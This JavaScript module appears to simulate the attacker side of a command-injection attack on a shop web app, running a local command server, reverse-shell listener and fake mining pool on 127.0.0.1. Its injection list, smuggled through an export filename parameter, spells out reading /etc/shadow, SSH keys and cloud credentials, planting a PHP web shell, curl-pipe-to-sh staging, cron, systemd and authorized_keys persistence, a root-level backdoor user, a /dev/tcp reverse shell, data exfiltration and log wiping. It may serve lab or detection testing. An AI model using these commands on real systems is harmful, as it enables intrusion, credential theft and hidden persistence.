/** The attacker's side: a command server, and the requests that use the hole in the shop. All on 127.0.0.1. */

import { spawnSync } from 'node:child_process';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer as createHttpServer } from 'node:http';
import { createServer } from 'node:net';

const COMMAND_PORT = 8099;
const SHELL_PORT = 4444;
const POOL_PORT = 3333;
const SERVER = `http://127.0.0.1:${COMMAND_PORT}`;

/** Downloaded and run by the shell of the shop: it fetches a "miner" (a copy of curl) and lets it talk to its pool. */
const STAGE = `mkdir -p /tmp/.x
cd /tmp/.x
curl -s -o xmrig ${SERVER}/xmrig
chmod +x xmrig
./xmrig -s -m 1 -u 44notawallet:x http://127.0.0.1:${POOL_PORT}/
wget -q -O kworkerd ${SERVER}/true
chmod 755 kworkerd
./kworkerd --daemon
`;

/** What the commands on the reverse shell are. */
const SHELL_COMMANDS = ['id', 'pwd', 'cat /etc/hosts', 'ls /srv/shop/data', 'exit'];

/** What is typed into the hole, in the order of such an attack; each line is one request. */
const INJECTIONS = [
  // Where am I?
  'id; whoami; hostname; uname -a',
  'cat /etc/passwd',
  'cat /etc/os-release; cat /proc/version; cat /proc/1/cgroup',
  'ps -e | head -5; ss -tln; ip addr; df -h',
  'ls -la / /srv /home /root /var/log; ls -l /var/run/docker.sock',
  'find /usr/bin -perm -4000',
  // What is there to take?
  'cat /etc/shadow',
  'cat /srv/shop/config.json; grep -ri password /srv/shop/config.json',
  'cat /root/.ssh/id_ed25519 /root/.aws/credentials /root/.bash_history',
  // A door to come back.
  `printf '<?php system($_GET["c"]); ?>' > /srv/shop/public/shell.php`,
  `curl -s ${SERVER}/stage.sh | sh`,
  `echo ${Buffer.from('id > /tmp/.x/out').toString('base64')} | base64 -d | sh`,
  `echo '* * * * * root curl -s ${SERVER}/stage.sh | sh' > /etc/cron.d/shop-update`,
  `mkdir -p /var/spool/cron/crontabs; echo '@reboot /tmp/.x/kworkerd' >> /var/spool/cron/crontabs/root`,
  `echo 'ssh-ed25519 AAAAnotakey attacker' >> /root/.ssh/authorized_keys`,
  `echo '/tmp/.x/kworkerd &' >> /root/.bashrc; echo '/tmp/.x/kworkerd &' > /etc/profile.d/shop.sh`,
  `printf '[Service]\\nExecStart=/tmp/.x/kworkerd\\n' > /etc/systemd/system/shop-update.service; ln -s ../shop-update.service /etc/systemd/system/multi-user.target.wants/shop-update.service`,
  'useradd -o -u 0 -g 0 -M -d /root -s /bin/bash support',
  `dpkg -i /tmp/tool.deb; curl -s -o /tmp/tool.deb ${SERVER}/tool.deb; dpkg -i /tmp/tool.deb`,
  // A shell of one's own, and a look around the network.
  `bash -c 'bash -i >& /dev/tcp/127.0.0.1/${SHELL_PORT} 0>&1'`,
  `for p in 22 80 443 3306 5432 6379; do (bash -c "echo > /dev/tcp/127.0.0.1/$p") 2>/dev/null && echo $p; done`,
  'ssh -o BatchMode=yes -o StrictHostKeyChecking=no -p 2222 root@127.0.0.1 id',
  'nsenter --target $$ --uts -- hostname',
  // Out with it, and away.
  `tar czf - data /etc/passwd | curl -s --data-binary @- ${SERVER}/upload`,
  `echo /tmp/.x/lib.so > /etc/ld.so.preload; rm /etc/ld.so.preload`,
  'rm -f /var/log/shop/access.log; ln -sf /dev/null /root/.bash_history; rm -rf /tmp/.x /tmp/tool.deb',
];

/** The requests: what customers do, then the attack. */
export async function attack(shop) {
  for (const path of ['/', '/item?id=1', '/item?id=2', '/export?name=orders', '/favicon.ico'])
    await request(shop + path);
  for (const command of INJECTIONS) {
    // The rest of the shop's own command becomes a comment.
    await request(`${shop}/export?name=${encodeURIComponent(`x.tgz -C data . ; ${command} #`)}`);
  }
  await request(`${shop}/item?id=1`);
}

async function request(url) {
  await (await fetch(url)).text();
}

/** Starts what the attacked machine connects to. */
export async function startAttacker() {
  const files = {
    '/stage.sh': STAGE,
    '/ping.sh': 'hostname\n',
    '/xmrig': readFileSync('/usr/bin/curl'),
    '/true': readFileSync('/usr/bin/true'),
    '/tool.deb': makePackage(),
  };
  const web = createHttpServer((incoming, outgoing) => {
    incoming.resume().on('end', () => outgoing.end(files[incoming.url] ?? ''));
  });
  const shell = createServer((socket) => {
    socket.on('error', () => {}).resume();
    for (const [i, command] of SHELL_COMMANDS.entries()) {
      setTimeout(() => socket.write(`${command}\n`), 200 * (i + 1));
    }
  });
  const pool = createServer((socket) => {
    socket.on('error', () => {}).on('data', () => socket.end('HTTP/1.0 200 OK\r\n\r\n'));
  });
  const servers = [
    [web, COMMAND_PORT],
    [shell, SHELL_PORT],
    [pool, POOL_PORT],
  ];
  await Promise.all(
    servers.map(([server, port]) => new Promise((resolve) => server.listen(port, '127.0.0.1', resolve))),
  );
  return {
    stop: () => {
      web.closeAllConnections();
      for (const [server] of servers) server.close();
    },
  };
}

/** A package with nothing in it. */
function makePackage() {
  mkdirSync('/opt/tool/DEBIAN', { recursive: true });
  const control = 'Package: tool\nVersion: 1\nArchitecture: all\nMaintainer: A <a@example.org>\nDescription: A tool\n';
  writeFileSync('/opt/tool/DEBIAN/control', control);
  spawnSync('dpkg-deb', ['--build', '--root-owner-group', '/opt/tool', '/opt/tool.deb']);
  return readFileSync('/opt/tool.deb');
}
